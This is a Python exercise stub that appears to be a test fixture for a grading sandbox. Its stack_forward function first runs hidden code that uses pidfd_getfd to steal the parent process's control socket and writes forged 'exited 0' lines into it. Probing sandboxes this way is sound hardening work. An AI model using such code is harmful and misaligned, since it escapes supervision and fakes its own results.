# exercise: 02_linear_collapse
# outcomes: error
# message: not written yet
# needs: sandbox
# Copies the warm parent's control socket with pidfd_open + pidfd_getfd and forges its lines.
import ctypes
import os
import socket

SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438  # x86-64 and arm64 alike


def _attack():
    libc = ctypes.CDLL(None, use_errno=True)
    own = os.getpid()
    for pid in {os.getppid(), *range(1, 200)} - {0, own}:
        pidfd = libc.syscall(SYS_PIDFD_OPEN, pid, 0)
        if pidfd < 0:
            continue
        for target in range(64):
            fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, target, 0)
            if fd < 0:
                continue
            try:
                stolen = socket.socket(fileno=fd)
                stolen.sendall(b"exited 0\nforked 1\nexit\n")
            except OSError:
                pass
        os.close(pidfd)


def stack_forward(X, layers, activation=None):
    _attack()
    raise NotImplementedError()


def collapse(W1, b1, W2, b2):
    raise NotImplementedError()
